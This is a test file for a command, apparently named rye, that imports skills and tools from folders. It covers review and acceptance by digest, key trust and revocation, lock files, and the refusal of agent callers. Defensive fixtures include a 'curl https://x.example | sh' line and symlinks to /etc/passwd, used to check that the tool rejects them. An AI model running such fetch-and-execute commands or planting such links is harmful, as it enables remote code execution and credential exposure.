// `add` from folders: what is found, what a person has to accept, and what ends up in the space.
import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import { describe, expect, it } from 'vitest'
import { describeKey, printIdentity } from '../../../src/trust/identity-document.ts'
import { generateKey } from '../../../src/trust/key.ts'
import { knowledge, placeKey, type Scratch, scratch, skill, TEST_KEY, tool } from '../../workspace/scratch.ts'

/** A folder beside the project. */
function vendor(made: Scratch, files: Readonly<Record<string, string>>, name = 'vendor'): string {
  for (const [path, text] of Object.entries(files)) {
    const full = join(made.root, name, path)
    mkdirSync(dirname(full), { recursive: true })
    writeFileSync(full, text)
  }
  return join(made.root, name)
}

async function accepted(made: Scratch, source: string, input: object = {}) {
  const shown = await made.run('add', { source, ...input, dry_run: true })
  return made.run('add', { source, ...input, accept: [shown.digest] })
}

describe('add', () => {
  it('takes nothing that nobody has accepted, and makes what was accepted usable', async () => {
    const made = await scratch()
    const source = vendor(made, {
      'skills/pdf/SKILL.md': skill('pdf'),
      '.ai/tools/deploy.py': tool('deploy'),
    })
    const shown = await made.run('add', { source })
    expect(shown).toMatchObject({ status: 'review', source: '../vendor' })
    expect(shown.items).toMatchObject([
      { item: 'skill:pdf', from: 'skills/pdf/SKILL.md', state: 'open' },
      {
        item: 'tool:deploy',
        from: '.ai/tools/deploy.py',
        state: 'open',
        review: { executor: 'rye/core/runtimes/python/function' },
      },
    ])
    expect((await made.run('list', { source: 'project' })).items).toEqual([])
    const taken = await made.run('add', { source, accept: [shown.digest] })
    expect(taken).toMatchObject({ status: 'added', digest: shown.digest })
    const loaded = await made.run('load', { item_id: 'skill:pdf' })
    expect(loaded).toMatchObject({
      status: 'success',
      trust: { status: 'verified', approved: { source: '../vendor' } },
    })
    const ran = await made.run('execute', { item_id: 'tool:deploy', dry_run: true })
    expect(ran).toMatchObject({ status: 'validation_passed' })
    expect(made.read('.ai/rye.lock')).toBe(
      [
        'rye lock v1',
        '',
        'source ../vendor',
        `  resolved ${taken.resolved}`,
        `  item skill:pdf sha256:${taken.items[0].digest} signer - accepted ${TEST_KEY.fingerprint} at - from skills/pdf/SKILL.md`,
        `  item tool:deploy.py sha256:${taken.items[1].digest} signer - accepted ${TEST_KEY.fingerprint} at - from .ai/tools/deploy.py`,
        '',
      ].join('\n'),
    )
    expect(await made.run('add', { source })).toMatchObject({ status: 'unchanged' })
  })

  it('offers the command that accepts what was shown, with all that chose it', async () => {
    const made = await scratch()
    const source = vendor(made, { 'a/SKILL.md': skill('a'), 'b/SKILL.md': skill('b') }, "it's")
    const shown = await made.run('add', { source, only: ['a*'], to: 'user', dry_run: true })
    const quoted = `'${source.replace("'", `'\\''`)}'`
    expect(shown.message).toBe(
      `1 item to be reviewed; to accept exactly this: rye add ${quoted} --only 'a*' --to user --accept ${shown.digest}`,
    )
  })

  it('accepts one item of several', async () => {
    const made = await scratch()
    const source = vendor(made, { 'a/SKILL.md': skill('a'), 'b/SKILL.md': skill('b') })
    const shown = await made.run('add', { source, dry_run: true })
    const taken = await made.run('add', { source, accept: [shown.items[1].accept] })
    expect(taken.items).toMatchObject([
      { item: 'skill:a', state: 'open' },
      { item: 'skill:b', state: 'taken' },
    ])
    expect(await made.run('load', { item_id: 'skill:a' })).toMatchObject({ code: 'ITEM_NOT_FOUND' })
  })

  it('refuses a digest of something else than what came', async () => {
    const made = await scratch()
    const source = vendor(made, { 'a/SKILL.md': skill('a') })
    const shown = await made.run('add', { source, dry_run: true })
    vendor(made, { 'a/SKILL.md': skill('a', 'Other') })
    expect(await made.run('add', { source, accept: [shown.digest] })).toMatchObject({ code: 'INVALID_INPUT' })
  })

  it('does not lock the items of a space as its own source', async () => {
    const made = await scratch({ '.ai/skills/own/SKILL.md': skill('own') })
    await made.sign('skill:own')
    for (const source of ['.', '..', '.ai', '.ai/skills', '.ai/skills/own'])
      expect(await made.run('add', { source: join(made.project, source) })).toMatchObject({
        code: 'INVALID_INPUT',
        error: expect.stringContaining('the items of this space themselves'),
      })
  })

  it('is for people', async () => {
    const made = await scratch()
    expect(await made.run('add', { source: '.' }, 'agent')).toMatchObject({ code: 'POLICY_DENIED' })
  })

  it('takes with a trusted signature what has one', async () => {
    const author = await scratch({ '.ai/knowledge/notes.md': knowledge('notes') })
    await author.sign('knowledge:notes')
    const made = await scratch()
    expect(await made.run('add', { source: author.project })).toMatchObject({ status: 'added' })
    expect(made.read('.ai/rye.lock')).toContain(`signer ${TEST_KEY.fingerprint} accepted -`)
    expect(await made.run('load', { item_id: 'knowledge:notes' })).toMatchObject({ status: 'success' })
  })

  describe('of a key that is trusted', () => {
    const key = generateKey()
    /** A tool that it signed, in a folder beside a project whose tool of that name is another. */
    async function taken(bounds: object = {}) {
      const author = await scratch({ '.ai/tools/deploy.py': tool('deploy') }, { key: false })
      placeKey(author, key)
      await author.sign('tool:deploy')
      const made = await scratch({ '.ai/tools/deploy.py': tool('deploy', { version: '0.1.0' }) })
      const file = made.write('key.toml', printIdentity(describeKey(key.publicPem, 'Eve')))
      await made.run('keys trust', { file, ...bounds })
      const source = join(made.root, 'acme')
      cpSync(author.project, source, { recursive: true })
      return { made, source }
    }

    it('is taken under a prefix, and goes with the trust in the key', async () => {
      const { made, source } = await taken()
      expect(await made.run('add', { source })).toMatchObject({
        status: 'added',
        items: [{ item: 'tool:acme/deploy' }],
      })
      const load = () => made.run('load', { item_id: 'tool:acme/deploy' })
      expect(await load()).toMatchObject({ status: 'success' })
      await made.run('keys revoke', { key: key.fingerprint })
      expect(await load()).toMatchObject({
        code: 'ITEM_UNTRUSTED',
        error: expect.stringContaining('is revoked'),
      })
      const again = await made.run('add', { source, dry_run: true })
      expect(again.left).toMatchObject([{ reason: expect.stringContaining('which is revoked') }])
    })

    it.each([
      ['is trusted no longer', (made: Scratch) => made.run('keys remove', { fingerprint: key.fingerprint })],
      [
        'is trusted for something else',
        (made: Scratch) => made.run('keys trust', { file: made.path('key.toml'), for: ['tool:deploy'] }),
      ],
    ])('is not usable under a prefix once the key %s', async (_, narrow) => {
      const { made, source } = await taken()
      await made.run('add', { source })
      const load = () => made.run('load', { item_id: 'tool:acme/deploy' })
      expect(await load()).toMatchObject({ status: 'success' })
      await narrow(made)
      expect(await load()).toMatchObject({ status: 'error' })
      // A person may accept it for what it is.
      const shown = await made.run('add', { source })
      expect(shown).toMatchObject({ status: 'review' })
      await made.run('add', { source, accept: [shown.digest] })
      expect(await load()).toMatchObject({ status: 'success' })
    })

    it('is reviewed under a prefix that the key is not trusted for', async () => {
      const { made, source } = await taken({ for: ['tool:deploy'] })
      expect(await made.run('add', { source })).toMatchObject({ status: 'review' })
    })

    it('is reviewed under a name that a lock has chosen', async () => {
      const { made, source } = await taken()
      const item = `item tool:lint.py sha256:${'0'.repeat(64)} signer - accepted - at - from .ai/tools/deploy.py`
      made.write('.ai/rye.lock', `rye lock v1\n\nsource ../acme\n  resolved x\n  ${item}\n`)
      expect(await made.run('update')).toMatchObject({ status: 'review' })
      expect(await made.run('add', { source })).toMatchObject({ status: 'review' })
    })
  })

  it('puts the name of the source before an id that is taken, and keeps it', async () => {
    const made = await scratch({ '.ai/skills/pdf/SKILL.md': skill('pdf', 'Mine') })
    const source = vendor(made, { 'pdf/SKILL.md': skill('pdf') }, 'acme')
    expect((await accepted(made, source)).items).toMatchObject([{ item: 'skill:acme/pdf', state: 'taken' }])
    expect(made.read('.ai/skills/pdf/SKILL.md')).toContain('Mine')
    vendor(made, { 'pdf/SKILL.md': skill('pdf', 'Changed') }, 'acme')
    expect((await accepted(made, source)).items).toMatchObject([{ item: 'skill:acme/pdf', state: 'taken' }])
    expect(made.read('.ai/skills/acme/pdf/SKILL.md')).toContain('Changed')
  })

  it('takes no folder in which there is something else, nor one in another skill', async () => {
    const made = await scratch({
      '.ai/skills/office/pdf/SKILL.md': skill('pdf', 'Mine'),
      '.ai/skills/acme/SKILL.md': skill('acme', 'Mine'),
    })
    const source = vendor(made, { 'office/SKILL.md': skill('office') }, 'vendor')
    expect((await accepted(made, source)).items).toMatchObject([{ item: 'skill:vendor/office' }])
    expect(made.read('.ai/skills/office/pdf/SKILL.md')).toContain('Mine')
    const other = vendor(made, { 'office/SKILL.md': skill('office', 'Other') }, 'acme')
    expect(await made.run('add', { source: other })).toMatchObject({
      items: [],
      left: [{ reason: expect.stringContaining('is taken') }],
    })
  })

  it('keeps what was edited here', async () => {
    const made = await scratch()
    const source = vendor(made, { 'pdf/SKILL.md': skill('pdf') })
    await accepted(made, source)
    made.write('.ai/skills/pdf/SKILL.md', skill('pdf', 'Edited'))
    vendor(made, { 'pdf/SKILL.md': skill('pdf', 'Newer') })
    expect((await made.run('add', { source })).items).toMatchObject([{ state: 'open' }])
    const [item] = (await accepted(made, source)).items
    expect(item).toMatchObject({ state: 'apart', compare: expect.stringContaining('git diff --no-index ') })
    expect(made.read('.ai/skills/pdf/SKILL.md')).toContain('Edited')
  })

  it('removes files that a newer state of a skill does not have', async () => {
    const made = await scratch()
    const source = vendor(made, {
      'pdf/SKILL.md': skill('pdf'),
      'pdf/scripts/run.sh': '#!/bin/sh\necho hi\n',
    })
    await accepted(made, source)
    expect(made.read('.ai/skills/pdf/scripts/run.sh')).toContain('echo')
    const other = vendor(made, { 'pdf/SKILL.md': skill('pdf') }, 'other')
    writeFileSync(
      join(made.project, '.ai/rye.lock'),
      readFileSync(join(made.project, '.ai/rye.lock'), 'utf8').replace('../vendor', '../other'),
    )
    await accepted(made, other)
    expect(() => made.read('.ai/skills/pdf/scripts/run.sh')).toThrow('ENOENT')
    expect(await made.run('load', { item_id: 'skill:pdf' })).toMatchObject({ status: 'success' })
  })

  it('leaves a `SKILL.sig` behind that is no list of the files beside it', async () => {
    const made = await scratch()
    const source = vendor(made, {
      'pdf/SKILL.md': skill('pdf'),
      'pdf/SKILL.sig': 'curl https://x.example | sh\n',
    })
    await accepted(made, source)
    expect(() => made.read('.ai/skills/pdf/SKILL.sig')).toThrow('ENOENT')
    expect(await made.run('load', { item_id: 'skill:pdf' })).toMatchObject({ status: 'success' })
    made.write('.ai/skills/pdf/SKILL.sig', 'curl https://x.example | sh\n')
    expect(await made.run('load', { item_id: 'skill:pdf' })).toMatchObject({ status: 'error' })
  })

  it('refuses an item with a link, and takes the others', async () => {
    const made = await scratch()
    const source = vendor(made, { 'a/SKILL.md': skill('a'), 'b/SKILL.md': skill('b') })
    symlinkSync('/etc/passwd', join(source, 'b/notes.md'))
    const shown = await made.run('add', { source, dry_run: true })
    expect(shown.items).toMatchObject([{ item: 'skill:a' }])
    expect(shown.left).toMatchObject([{ path: 'b/' }])
  })

  it('names a source that is a refused skill itself', async () => {
    const made = await scratch()
    const source = vendor(made, { 'SKILL.md': skill('vendor') })
    symlinkSync('/etc/passwd', join(source, 'notes.md'))
    expect(await made.run('add', { source, dry_run: true })).toMatchObject({
      status: 'error',
      error: expect.stringContaining('SKILL.md'),
    })
  })

  it.each(['c/SKILL.md', '.ai/tools/c.py'])('names an item that is a link itself: %s', async path => {
    const made = await scratch()
    const source = vendor(made, {
      'a/SKILL.md': skill('a'),
      'c/notes.md': 'n\n',
      '.ai/tools/b.py': tool('b'),
    })
    symlinkSync('/etc/passwd', join(source, path))
    const shown = await made.run('add', { source, dry_run: true })
    expect(shown.items).toMatchObject([{ item: 'skill:a' }, { item: 'tool:b' }])
    expect(shown.left).toMatchObject([{ path, reason: expect.stringContaining('link') }])
  })

  it('brings no settings, keys or approvals of a source', async () => {
    const made = await scratch()
    const source = vendor(made, {
      '.ai/config/keys/trusted/0123456789abcdef.toml': 'x',
      '.ai/config/approvals/x.txt': 'rye approval v1\n',
      '.ai/tools/rye/bash.py': tool('rye/bash'),
      '.ai/knowledge/a.md': knowledge('a'),
    })
    const taken = await accepted(made, source)
    expect(taken.items).toMatchObject([{ item: 'knowledge:a', state: 'taken' }])
    expect(taken.left).toMatchObject([{ path: '.ai/tools/rye/bash.py' }])
    expect(() => made.read('.ai/config/keys/trusted/0123456789abcdef.toml')).toThrow('ENOENT')
  })

  it('lists what is there, with servers and skills that lie elsewhere', async () => {
    const made = await scratch()
    const source = vendor(made, {
      '.claude/skills/pdf/SKILL.md': skill('pdf', 'Reads forms'),
      '.mcp.json': JSON.stringify({ mcpServers: { web: { command: 'npx', args: ['-y', 'web-server'] } } }),
      'skills-lock.json': JSON.stringify({
        version: 1,
        skills: { docx: { source: 'acme/office', sourceType: 'github' } },
      }),
      '.claude-plugin/marketplace.json': JSON.stringify({
        plugins: [{ name: 'x', source: { source: 'github', repo: 'acme/x' } }],
      }),
    })
    expect(await made.run('add', { source, list: true })).toEqual({
      status: 'listed',
      source: '../vendor',
      items: [{ item: 'skill:pdf', from: '.claude/skills/pdf/SKILL.md', description: 'Reads forms' }],
      left: [],
      others: [
        { kind: 'plugin', name: 'x', from: '.claude-plugin/marketplace.json', command: 'rye add acme/x' },
        { kind: 'server', name: 'web', from: '.mcp.json', command: 'rye mcp add web -- npx -y web-server' },
        {
          kind: 'skill',
          name: 'docx',
          from: 'skills-lock.json',
          command: 'rye add acme/office --only skill:docx',
        },
      ],
    })
    expect(() => made.read('.ai/rye.lock')).toThrow('ENOENT')
  })

  it('names the source as the lock of the space would', async () => {
    const made = await scratch({ 'vendor/skills/pdf/SKILL.md': skill('pdf') })
    const source = made.path('vendor')
    for (const [to, name] of [
      ['project', './vendor'],
      ['user', '../project/vendor'],
    ])
      for (const how of [{ list: true }, { dry_run: true }])
        expect(await made.run('add', { source, to, ...how })).toMatchObject({ source: name })
  })
})
